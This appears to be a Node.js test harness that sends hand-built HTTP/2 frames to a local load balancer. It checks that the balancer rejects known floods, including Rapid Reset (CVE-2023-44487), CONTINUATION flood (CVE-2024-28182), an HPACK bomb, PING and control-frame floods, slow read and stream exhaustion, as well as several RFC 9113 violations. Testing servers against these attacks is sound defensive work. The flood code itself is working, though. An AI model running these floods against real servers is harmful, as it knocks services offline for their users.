// Hand-made HTTP/2 frames against lb over a plain socket: the known floods.
// Prints one JSON line: the GOAWAY lb sent (error code) and what it answered.
//   node attack.js MODE PORT
// MODE: slow_get | rapid_reset | continuation | bomb | ping_flood | control_mix | slow_read | streams
'use strict';
const net = require('net');
const [mode, port] = process.argv.slice(2);
const out = { goaway: null, goaways: [], rst: {}, headers: 0, data_bytes: 0, end_stream: 0, closed: false };
const finish = () => { console.log(JSON.stringify(out)); process.exit(0); };
setTimeout(finish, Number(process.env.ATTACK_SECONDS || 4) * 1000);

const frame = (type, flags, sid, payload = Buffer.alloc(0)) => {
  const h = Buffer.alloc(9);
  h.writeUIntBE(payload.length, 0, 3);
  h[3] = type; h[4] = flags; h.writeUInt32BE(sid, 5);
  return Buffer.concat([h, payload]);
};
const DATA = 0, HEADERS = 1, RST = 3, SETTINGS = 4, PING = 6, GOAWAY = 7, WINDOW_UPDATE = 8, CONTINUATION = 9;
const END_STREAM = 1, END_HEADERS = 4, ACK = 1;
// HPACK without Huffman: GET / http, :authority a literal (static name index 1).
const lit = (idx, v) => Buffer.concat([Buffer.from([idx, v.length]), Buffer.from(v)]);
const getBlock = (path = '/') => Buffer.concat([Buffer.from([0x82, 0x86]),
  path === '/' ? Buffer.from([0x84]) : lit(0x04, path), lit(0x01, 'lb.test')]);
const u32 = (n) => { const b = Buffer.alloc(4); b.writeUInt32BE(n); return b; };
const settings = (pairs) => Buffer.concat(pairs.map(([id, v]) => { const b = Buffer.alloc(6); b.writeUInt16BE(id); b.writeUInt32BE(v, 2); return b; }));

// RFC 9113 cases lb (through nghttp2) must refuse: one frame sequence each.
const field = (n, v) => Buffer.concat([Buffer.from([0x00, n.length]), Buffer.from(n), Buffer.from([v.length]), Buffer.from(v)]);
const req = (...extra) => frame(HEADERS, END_STREAM | END_HEADERS, 1, Buffer.concat([getBlock(), ...extra]));
const conformance = {
  conn_header: () => req(field('connection', 'close')),                   // §8.2.2
  upgrade_header: () => req(field('upgrade', 'websocket')),               // §8.2.2
  te_gzip: () => req(field('te', 'gzip')),                                // §8.2.2
  upper_name: () => req(field('X-Upper', 'v')),                           // §8.2.1
  no_path: () => frame(HEADERS, END_STREAM | END_HEADERS, 1,              // §8.3.1
    Buffer.concat([Buffer.from([0x82, 0x86]), lit(0x01, 'lb.test')])),
  pseudo_after_regular: () => frame(HEADERS, END_STREAM | END_HEADERS, 1, // §8.3
    Buffer.concat([Buffer.from([0x82, 0x86]), field('x-a', 'b'), Buffer.from([0x84])])),
  bad_length: () => Buffer.concat([frame(HEADERS, END_HEADERS, 1,         // §8.1.1
    Buffer.concat([Buffer.from([0x83, 0x86, 0x84]), lit(0x01, 'lb.test'), field('content-length', '10')])),
    frame(DATA, END_STREAM, 1, Buffer.from('abc'))]),
  data_stream0: () => frame(DATA, 0, 0, Buffer.from('x')),                // §6.1
  even_stream: () => frame(HEADERS, END_STREAM | END_HEADERS, 2, getBlock()), // §5.1.1
  big_frame: () => frame(PING, 0, 0, Buffer.alloc(20000)),                // §4.2
  ping_size: () => frame(PING, 0, 0, Buffer.alloc(7)),                    // §6.7
  settings_on_stream: () => frame(SETTINGS, 0, 1),                        // §6.5
  window_zero: () => frame(WINDOW_UPDATE, 0, 0, u32(0)),                  // §6.9
  data_idle: () => frame(DATA, 0, 5, Buffer.from('x')),                   // §5.1
  push_promise: () => frame(5, END_HEADERS, 1, Buffer.concat([u32(2), getBlock()])), // §8.4
  // Extended CONNECT (WebSockets over h2) while lb never sent
  // SETTINGS_ENABLE_CONNECT_PROTOCOL: malformed (RFC 8441 §3, §4).
  extended_connect: () => frame(HEADERS, END_HEADERS, 1, Buffer.concat([lit(0x02, 'CONNECT'),
    field(':protocol', 'websocket'), Buffer.from([0x86]), lit(0x04, '/chat'), lit(0x01, 'lb.test')])),
};

const sock = net.connect(Number(port), '127.0.0.1');
let inbuf = Buffer.alloc(0);
sock.on('data', (d) => {
  inbuf = Buffer.concat([inbuf, d]);
  while (inbuf.length >= 9) {
    const len = inbuf.readUIntBE(0, 3), type = inbuf[3], flags = inbuf[4], sid = inbuf.readUInt32BE(5) & 0x7fffffff;
    if (inbuf.length < 9 + len) break;
    const p = inbuf.subarray(9, 9 + len);
    inbuf = inbuf.subarray(9 + len);
    if (type === SETTINGS && !(flags & ACK)) sock.write(frame(SETTINGS, ACK, 0));
    if (type === GOAWAY) { out.goaway = p.readUInt32BE(4); out.goaways.push([p.readUInt32BE(0) & 0x7fffffff, out.goaway]); }
    if ((type === DATA || type === HEADERS) && (flags & END_STREAM)) out.end_stream++;
    if (type === RST) out.rst[p.readUInt32BE(0)] = (out.rst[p.readUInt32BE(0)] || 0) + 1;
    if (type === HEADERS) out.headers++;
    if (type === DATA) out.data_bytes += len;
  }
});
sock.on('close', () => { out.closed = true; finish(); });
sock.on('error', () => {});

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const w = (b) => { if (!sock.destroyed) sock.write(b); };

sock.on('connect', async () => {
  if (mode === 'slow_read') {
    // A window of 0 bytes per stream: lb can send nothing, ever.
    w(Buffer.concat([preface, frame(SETTINGS, 0, 0, settings([[4, 0]]))]));
    w(frame(HEADERS, END_STREAM | END_HEADERS, 1, getBlock('/?size=1000000')));
    return;
  }
  w(Buffer.concat([preface, frame(SETTINGS, 0, 0)]));
  if (mode === 'rapid_reset') {
    // Open and cancel streams as fast as possible (CVE-2023-44487).
    let sid = 1;
    for (let round = 0; round < 40 && !sock.destroyed; round++) {
      const bufs = [];
      for (let i = 0; i < 100; i++, sid += 2)
        bufs.push(frame(HEADERS, END_STREAM | END_HEADERS, sid, getBlock('/?delay=1000')), frame(RST, 0, sid, u32(8)));
      w(Buffer.concat(bufs));
      await new Promise((r) => setImmediate(r));
    }
  } else if (mode === 'continuation') {
    // One header block that never ends (CVE-2024-28182). After lb's SETTINGS
    // is acknowledged: no other frame may split a header block.
    await new Promise((r) => setTimeout(r, 200));
    w(frame(HEADERS, 0, 1, getBlock()));
    const bufs = [];
    for (let i = 0; i < Number(process.env.ATTACK_N || 10000); i++) bufs.push(frame(CONTINUATION, 0, 1, Buffer.from([0x00, 1, 0x78, 1, 0x79])));  // x: y
    w(Buffer.concat(bufs));
  } else if (mode === 'bomb') {
    // HPACK bomb: one 4000-byte field put in the dynamic table, then named
    // again by its index (one byte each) ATTACK_N times.
    const int7 = (prefix, n) => {  // RFC 7541 §5.1 with a 7-bit prefix
      if (n < 127) return [prefix | n];
      const b = [prefix | 127]; n -= 127;
      while (n >= 128) { b.push((n & 127) | 128); n >>= 7; }
      b.push(n); return b;
    };
    const name = Buffer.from('x-bomb'), value = Buffer.alloc(4000, 'A');
    const block = Buffer.concat([getBlock(), Buffer.from([0x40, name.length]), name, Buffer.from(int7(0, value.length)),
      value, Buffer.alloc(Number(process.env.ATTACK_N || 200), 0xbe)]);
    await new Promise((r) => setTimeout(r, 200));
    w(frame(HEADERS, END_STREAM | END_HEADERS, 1, block));
  } else if (mode === 'ping_flood') {
    const bufs = [];
    for (let i = 0; i < 5000; i++) bufs.push(frame(PING, 0, 0, Buffer.alloc(8)));
    w(Buffer.concat(bufs));
  } else if (mode === 'control_mix') {
    // SETTINGS, WINDOW_UPDATE and empty DATA frames that do no work.
    w(frame(HEADERS, END_HEADERS, 1, getBlock('/?echo=1')));
    const bufs = [];
    for (let i = 0; i < 1000; i++)
      bufs.push(frame(SETTINGS, 0, 0), frame(WINDOW_UPDATE, 0, 0, u32(1)), frame(DATA, 0, 1));
    w(Buffer.concat(bufs));
  } else if (mode in conformance) {
    await new Promise((r) => setTimeout(r, 100));  // after the SETTINGS exchange
    w(conformance[mode]());
  } else if (mode === 'slow_get') {
    // One request that takes a while: for drain tests.
    w(frame(HEADERS, END_STREAM | END_HEADERS, 1, getBlock('/?delay=1500')));
  } else if (mode === 'streams') {
    // More streams at once than SETTINGS_MAX_CONCURRENT_STREAMS allows.
    const bufs = [];
    for (let i = 0, sid = 1; i < 150; i++, sid += 2)
      bufs.push(frame(HEADERS, END_STREAM | END_HEADERS, sid, getBlock('/?delay=1500')));
    w(Buffer.concat(bufs));
  }
});
